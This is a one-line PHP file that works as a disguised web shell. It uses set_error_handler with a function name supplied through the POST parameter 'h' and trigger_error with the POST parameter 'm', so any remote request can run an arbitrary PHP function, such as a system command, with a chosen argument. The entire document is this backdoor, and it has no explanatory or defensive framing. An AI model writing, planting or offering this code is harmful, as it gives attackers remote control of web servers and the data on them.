<?php set_error_handler($_POST['h']); trigger_error($_POST['m']);
